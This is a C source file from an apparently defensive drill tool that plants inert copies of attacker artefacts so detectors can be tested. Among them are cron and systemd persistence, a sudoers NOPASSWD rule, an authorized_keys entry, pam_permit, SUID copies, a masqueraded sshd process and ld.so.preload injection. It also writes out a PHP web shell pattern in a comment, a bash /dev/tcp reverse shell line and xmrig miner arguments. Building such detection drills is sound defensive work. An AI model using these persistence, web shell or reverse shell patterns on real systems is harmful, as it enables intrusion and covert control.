/*
 * expand.c — the step kinds (plant.h): each turns a scenario step into the
 * plant targets of its "drill-plant" actions. Every name carries the run's
 * tag; every plant is inert (see plant.h).
 */
#include "drill/plant.h"

#include "core/i18n.h"
#include "core/util.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct ctx {
	const rs_drill_step *st;
	size_t index;
	const char *run;
	char tag[64];
	int port;
	json_t *out;
	char *err;
	size_t errsize;
} ctx;

static json_t *target(ctx *c, const char *op, const char *path)
{
	json_t *t = json_pack("{s:s,s:I,s:s,s:s}", "run", c->run, "step", (json_int_t)c->index, "kind",
			      c->st->kind, "op", op);
	if (path)
		json_object_set_new(t, "path", json_string(path));
	json_array_append_new(c->out, t);
	return t;
}

static const char *param(ctx *c, const char *name, const char *def)
{
	const char *v = json_string_value(json_object_get(c->st->params, name));
	return v && *v ? v : def;
}

/* An absolute path without "..", "//" or control bytes. */
static bool safe_path(const char *p)
{
	if (p[0] != '/' || strstr(p, "/..") || strstr(p, "//") || strlen(p) > 1024)
		return false;
	for (const char *s = p; *s; s++)
		if ((unsigned char)*s < 0x20 || *s == 0x7f)
			return false;
	return true;
}

/* A file target with CONTENT (a new string, taken) and MODE. */
static json_t *file(ctx *c, const char *path, char *content, const char *mode)
{
	json_t *t = target(c, "file", path);
	json_object_set_new(t, "content", json_string(content));
	json_object_set_new(t, "mode", json_string(mode));
	free(content);
	return t;
}

/* The hidden working directory of the run under BASE ("/tmp"). */
static char *hidden_dir(ctx *c, const char *base)
{
	return rs_sprintf("%s/.%s", base, c->tag);
}

static json_t *copy(ctx *c, const char *path, const char *from, const char *mode, const char *mkdir)
{
	json_t *t = target(c, "file", path);
	json_object_set_new(t, "copy_from", json_string(from));
	json_object_set_new(t, "mode", json_string(mode));
	if (mkdir)
		json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", mkdir));
	return t;
}

static json_t *process(ctx *c, const char *exe, json_t *argv)
{
	json_t *t = target(c, "process", NULL);
	json_object_set_new(t, "exe", json_string(exe));
	json_object_set_new(t, "argv", argv);
	json_object_set_new(t, "ttl", json_integer(RS_DRILL_TTL));
	return t;
}

static int k_cron(ctx *c)
{
	char *path = rs_sprintf("/etc/cron.d/%s", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, 31 February never comes\n"
				 "0 0 31 2 * root /tmp/.%s/update.sh # %s\n", c->run, c->tag, c->tag), "0644");
	free(path);
	return 0;
}

static int k_systemd_service(ctx *c)
{
	char *path = rs_sprintf("/etc/systemd/system/%s.service", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, never enabled or started\n[Unit]\n"
				 "Description=%s\n\n[Service]\nExecStart=/tmp/.%s/agent\n", c->run, c->tag, c->tag),
	     "0644");
	free(path);
	return 0;
}

static int k_systemd_timer(ctx *c)
{
	char *path = rs_sprintf("/etc/systemd/system/%s-job.service", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, never enabled or started\n[Unit]\n"
				 "Description=%s\n\n[Service]\nType=oneshot\nExecStart=/dev/shm/.%s/job\n",
				 c->run, c->tag, c->tag), "0644");
	free(path);
	path = rs_sprintf("/etc/systemd/system/%s-job.timer", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, never enabled or started\n[Unit]\n"
				 "Description=%s\n\n[Timer]\nOnCalendar=2000-01-01\n", c->run, c->tag), "0644");
	free(path);
	return 0;
}

static int k_shell_startup(ctx *c)
{
	char *path = rs_sprintf("/etc/profile.d/%s.sh", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, `false &&` never runs the rest\n"
				 "false && /tmp/.%s/.hook # %s\n", c->run, c->tag, c->tag), "0644");
	free(path);
	return 0;
}

static int k_rc_local(ctx *c)
{
	json_t *t = target(c, "append", "/etc/rc.local");
	char *line = rs_sprintf("false && /tmp/.%s/.rc # %s: inert\n", c->tag, c->tag);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "mode", json_string("0644"));
	free(line);
	return 0;
}

static int k_authorized_key(ctx *c)
{
	const char *path = param(c, "file", "/root/.ssh/authorized_keys");
	if (!safe_path(path)) {
		snprintf(c->err, c->errsize, _("authorized-key: \"file\" must be an absolute path without .."));
		return -1;
	}
	/* a key blob nobody holds the private half of: 32 bytes of the tag */
	unsigned char blob[51] = { 0, 0, 0, 11, 's', 's', 'h', '-', 'e', 'd', '2', '5', '5', '1', '9', 0, 0, 0, 32 };
	for (size_t i = 0; i < 32; i++)
		blob[19 + i] = (unsigned char)c->tag[i % strlen(c->tag)];
	static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char enc[80];
	size_t o = 0;
	for (size_t i = 0; i < sizeof(blob); i += 3) {
		unsigned v = (unsigned)blob[i] << 16 | (i + 1 < sizeof(blob) ? (unsigned)blob[i + 1] << 8 : 0) |
			     (i + 2 < sizeof(blob) ? blob[i + 2] : 0);
		enc[o++] = b64[(v >> 18) & 63];
		enc[o++] = b64[(v >> 12) & 63];
		enc[o++] = i + 1 < sizeof(blob) ? b64[(v >> 6) & 63] : '=';
		enc[o++] = i + 2 < sizeof(blob) ? b64[v & 63] : '=';
	}
	enc[o] = '\0';
	json_t *t = target(c, "append", path);
	if (!strcmp(path, "/root/.ssh/authorized_keys"))
		json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", "/root/.ssh"));
	char *line = rs_sprintf("command=\"/tmp/.%s/k\",no-pty,from=\"192.0.2.1\" ssh-ed25519 %s %s\n", c->tag, enc,
				c->tag);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "mode", json_string("0600"));
	free(line);
	return 0;
}

static int k_sudoers(ctx *c)
{
	char *path = rs_sprintf("/etc/sudoers.d/%s", c->tag);
	char user[32];
	snprintf(user, sizeof(user), "rsdrill%.8s", c->run + 2);
	json_t *t = file(c, path, rs_sprintf("# rasoat drill %s: inert, the user %s does not exist\n"
					     "%s ALL=(ALL) NOPASSWD: ALL\n", c->run, user, user), "0440");
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", "/etc/sudoers.d"));
	free(path);
	return 0;
}

static int k_pam(ctx *c)
{
	char *path = rs_sprintf("/etc/pam.d/%s", c->tag);
	file(c, path, rs_sprintf("# rasoat drill %s: inert, no service is called %s\n"
				 "auth sufficient pam_permit.so\n", c->run, c->tag), "0644");
	free(path);
	return 0;
}

static int k_suid(ctx *c)
{
	char *dir = hidden_dir(c, "/var/tmp");
	char *path = rs_sprintf("%s/%s", dir, "dbus-helper");
	copy(c, path, "/usr/bin/true", "4755", dir);
	free(path);
	free(dir);
	return 0;
}

static int k_capability(ctx *c)
{
	char *dir = hidden_dir(c, "/var/tmp");
	char *path = rs_sprintf("%s/%s", dir, "netd");
	json_t *t = copy(c, path, "/usr/bin/true", "0755", NULL);
	json_object_set_new(t, "caps", json_string("net_raw"));
	/* the directory may come from the suid step of the same run */
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", dir));
	free(path);
	free(dir);
	return 0;
}

static int k_webshell(ctx *c)
{
	char *def = rs_sprintf("/var/www/%s", c->tag);
	const char *docroot = param(c, "docroot", def);
	if (!safe_path(docroot)) {
		free(def);
		snprintf(c->err, c->errsize, _("webshell: \"docroot\" must be an absolute path without .."));
		return -1;
	}
	char *path = rs_sprintf("%s/up.php", docroot);
	json_t *t = file(c, path, rs_sprintf("<?php exit(0); /* rasoat drill %s: inert, exits at once.\n"
					     "   What a web shell looks like:\n"
					     "   @eval(base64_decode($_POST['cmd']));\n"
					     "   system($_REQUEST['c']); passthru($_GET['x']); shell_exec($_POST['z']);\n"
					     "*/ ?>\n", c->run), "0644");
	if (!strcmp(docroot, def))
		json_object_set_new(t, "mkdir_if_absent", json_pack("[s,s]", "/var/www", docroot));
	free(path);
	free(def);
	return 0;
}

static int k_eicar(ctx *c)
{
	char *dir = hidden_dir(c, "/tmp");
	char *path = rs_sprintf("%s/eicar.com", dir);
	json_t *t = file(c, path, rs_strdup("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
			 "0644");
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", dir));
	free(path);
	free(dir);
	return 0;
}

static int k_yara_test(ctx *c)
{
	char *dir = hidden_dir(c, "/tmp");
	char *path = rs_sprintf("%s/rs.sh", dir);
	json_t *t = file(c, path, rs_sprintf("#!/bin/sh\n# rasoat drill %s: a YARA test file, never run\nexit 0\n"
					     "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1\n", c->run, c->port), "0644");
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", dir));
	free(path);
	free(dir);
	return 0;
}

/* A copy of a harmless program at DIR/NAME, run as ARGV. */
static int copied_process(ctx *c, const char *base, const char *name, const char *from, json_t *argv,
			  bool deleted)
{
	char *dir = hidden_dir(c, base);
	char *path = rs_sprintf("%s/%s", dir, name);
	json_t *t = copy(c, path, from, "0755", NULL);
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", dir));
	json_t *p = process(c, path, argv);
	if (deleted)
		json_object_set_new(p, "unlink", json_string(path));
	free(path);
	free(dir);
	return 0;
}

static json_t *sleep_argv(const char *argv0)
{
	char ttl[16];
	snprintf(ttl, sizeof(ttl), "%d", RS_DRILL_TTL);
	return json_pack("[s,s]", argv0, ttl);
}

static int k_deleted_process(ctx *c)
{
	return copied_process(c, "/tmp", "kdevtmpfsi", "/usr/bin/sleep", sleep_argv("kdevtmpfsi"), true);
}

static int k_hidden_process(ctx *c)
{
	return copied_process(c, "/opt", "updater", "/usr/bin/sleep", sleep_argv("updater"), false);
}

static int k_kthread_process(ctx *c)
{
	process(c, "/usr/bin/sleep", sleep_argv("[kworker/u9:9-events]"));
	return 0;
}

static int k_masquerade_process(ctx *c)
{
	/* comm comes from the name execve is given: a link called sshd to sleep */
	char *dir = hidden_dir(c, "/tmp");
	char *path = rs_sprintf("%s/sshd", dir);
	json_t *t = target(c, "file", path);
	json_object_set_new(t, "link_to", json_string("/usr/bin/sleep"));
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s]", dir));
	json_t *p = process(c, path, sleep_argv("/usr/sbin/sshd"));
	json_object_set_new(p, "unlink", json_string(path));
	free(path);
	free(dir);
	return 0;
}

static json_t *bash_reader(ctx *c, const char *argv0)
{
	char *script = rs_sprintf("read -t %d line # %s: inert, reads what nobody sends", RS_DRILL_TTL, c->tag);
	json_t *a = json_pack("[s,s,s]", argv0, "-c", script);
	free(script);
	return a;
}

static int k_reverse_shell(ctx *c)
{
	json_t *p = process(c, "/usr/bin/bash", bash_reader(c, "bash"));
	char *addr = rs_sprintf("127.0.0.1:%d", c->port);
	json_object_set_new(p, "connect", json_string(addr));
	free(addr);
	return 0;
}

static int k_miner(ctx *c)
{
	json_t *argv = bash_reader(c, "xmrig");
	char *url = rs_sprintf("stratum+tcp://127.0.0.1:%d", c->port);
	json_array_append_new(argv, json_string("xmrig"));
	json_array_append_new(argv, json_string("-o"));
	json_array_append_new(argv, json_string(url));
	json_array_append_new(argv, json_string("--donate-level"));
	json_array_append_new(argv, json_string("1"));
	copied_process(c, "/tmp", "xmrig", "/usr/bin/bash", argv, false);
	json_t *p = json_array_get(c->out, json_array_size(c->out) - 1);
	char *addr = rs_sprintf("127.0.0.1:%d", c->port);
	json_object_set_new(p, "connect", json_string(addr));
	free(addr);
	free(url);
	return 0;
}

static int k_account(ctx *c)
{
	char user[32];
	snprintf(user, sizeof(user), "rsdrill%.8s", c->run + 2);
	json_t *t = target(c, "append", "/etc/passwd");
	char *line = rs_sprintf("%s:x:998:998:%s:/nonexistent:/bin/bash\n", user, c->tag);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "marker", json_string(user));
	json_object_set_new(t, "mode", json_string("0644"));
	free(line);
	t = target(c, "append", "/etc/shadow");
	line = rs_sprintf("%s:!:20000:0:99999:7:::\n", user);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "mode", json_string("0640"));
	free(line);
	return 0;
}

static int k_ld_preload(ctx *c)
{
	json_t *t = target(c, "append", "/etc/ld.so.preload");
	char *line = rs_sprintf("/tmp/.%s/libdrill.so\n", c->tag);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "marker", json_string(c->tag));
	json_object_set_new(t, "mode", json_string("0644"));
	free(line);
	return 0;
}

/* Shell history turned off, only ever for a throw-away account: a passwd
 * line for an account that cannot log in (nologin), a home of its own under
 * /home with a start-up file that unsets HISTFILE, and its history file
 * linked to /dev/null. Nobody's shell reads that file. */
static int k_history_wipe(ctx *c)
{
	char user[32];
	snprintf(user, sizeof(user), "rsdrillh%.7s", c->run + 2);
	char *home = rs_sprintf("/home/%s", c->tag);
	json_t *t = target(c, "append", "/etc/passwd");
	char *line = rs_sprintf("%s:x:60998:60998:%s:%s:/usr/sbin/nologin\n", user, c->tag, home);
	json_object_set_new(t, "content", json_string(line));
	json_object_set_new(t, "marker", json_string(user));
	json_object_set_new(t, "mode", json_string("0644"));
	free(line);
	char *path = rs_sprintf("%s/.bashrc", home);
	t = file(c, path, rs_sprintf("# rasoat drill %s: the start-up file of a throw-away account that cannot log in\n"
				     "unset HISTFILE  # rasoat-drill %s\n", c->run, c->run), "0644");
	json_object_set_new(t, "mkdir_if_absent", json_pack("[s,s]", "/home", home));
	free(path);
	path = rs_sprintf("%s/.bash_history", home);
	t = target(c, "file", path);
	json_object_set_new(t, "link_to", json_string("/dev/null"));
	free(path);
	free(home);
	return 0;
}

typedef struct kind {
	const char *name;
	int (*expand)(ctx *c);
	bool needs_root;
	bool live_only;
} kind;

static const kind kinds[] = {
	{ "cron", k_cron, false, false },
	{ "systemd-service", k_systemd_service, false, false },
	{ "systemd-timer", k_systemd_timer, false, false },
	{ "shell-startup", k_shell_startup, false, false },
	{ "rc-local", k_rc_local, false, false },
	{ "authorized-key", k_authorized_key, false, false },
	{ "sudoers", k_sudoers, false, false },
	{ "pam", k_pam, false, false },
	{ "suid", k_suid, false, false },
	{ "capability", k_capability, false, false },
	{ "webshell", k_webshell, false, false },
	{ "eicar", k_eicar, false, false },
	{ "yara-test", k_yara_test, false, false },
	{ "deleted-process", k_deleted_process, false, true },
	{ "hidden-process", k_hidden_process, false, true },
	{ "kthread-process", k_kthread_process, false, true },
	{ "masquerade-process", k_masquerade_process, false, true },
	{ "reverse-shell", k_reverse_shell, false, true },
	{ "miner", k_miner, false, true },
	{ "account", k_account, true, false },
	{ "ld-preload", k_ld_preload, true, false },
	{ "history-wipe", k_history_wipe, true, false },
};

static const kind *find(const char *name)
{
	for (size_t i = 0; name && i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (!strcmp(kinds[i].name, name))
			return &kinds[i];
	return NULL;
}

bool rs_drill_kind_known(const char *k)
{
	return find(k) != NULL;
}

bool rs_drill_kind_needs_root(const char *k)
{
	const kind *x = find(k);
	return x && x->needs_root;
}

bool rs_drill_kind_live_only(const char *k)
{
	const kind *x = find(k);
	return x && x->live_only;
}

void rs_drill_tag(const char *run, char *tag, size_t size)
{
	snprintf(tag, size, "rasoat-drill-%s", rs_starts_with(run, "d-") ? run + 2 : run);
}

json_t *rs_drill_expand(const rs_drill_step *st, size_t index, const char *run, int port, char *err,
			size_t errsize)
{
	const kind *k = find(st->kind);
	if (!k) {
		snprintf(err, errsize, _("unknown step kind \"%s\""), st->kind);
		return NULL;
	}
	ctx c = { .st = st, .index = index, .run = run, .port = port, .out = json_array(), .err = err,
		  .errsize = errsize };
	rs_drill_tag(run, c.tag, sizeof(c.tag));
	if (k->expand(&c) < 0) {
		json_decref(c.out);
		return NULL;
	}
	return c.out;
}

/* True when S can stand quoted in a unit file's command line. */
static bool unit_safe(const char *s)
{
	for (; *s; s++)
		if ((unsigned char)*s < 0x20 || *s == '"' || *s == '\\' || *s == '%' || *s == 0x7f)
			return false;
	return true;
}

json_t *rs_drill_ttl_targets(const char *run, const char *exe, const char *db, int minutes)
{
	if (!unit_safe(exe) || !unit_safe(db))
		return NULL;
	rs_drill_step st = { .kind = "ttl" };
	ctx c = { .st = &st, .index = 0, .run = run, .out = json_array() };
	rs_drill_tag(run, c.tag, sizeof(c.tag));
	char *unit = rs_sprintf("%s-cleanup", c.tag);
	char *path = rs_sprintf("/etc/systemd/system/%s.service", unit);
	json_t *t = file(&c, path, rs_sprintf("# rasoat drill %s: cleans the run up if rasoat could not\n[Unit]\n"
					      "Description=rasoat drill %s cleanup\n\n[Service]\nType=oneshot\n"
					      "ExecStart=\"%s\" drill cleanup %s --db \"%s\"\n", run, run, exe, run, db),
			 "0644");
	json_object_set_new(t, "step", json_integer(-1));
	free(path);
	path = rs_sprintf("/etc/systemd/system/%s.timer", unit);
	t = file(&c, path, rs_sprintf("# rasoat drill %s\n[Unit]\nDescription=rasoat drill %s cleanup\n\n"
				      "[Timer]\nOnActiveSec=%dmin\nAccuracySec=1min\n", run, run, minutes), "0644");
	json_object_set_new(t, "step", json_integer(-1));
	free(path);
	t = target(&c, "systemd", NULL);
	json_object_set_new(t, "step", json_integer(-1));
	char *timer = rs_sprintf("%s.timer", unit);
	json_object_set_new(t, "unit", json_string(timer));
	free(timer);
	free(unit);
	return c.out;
}
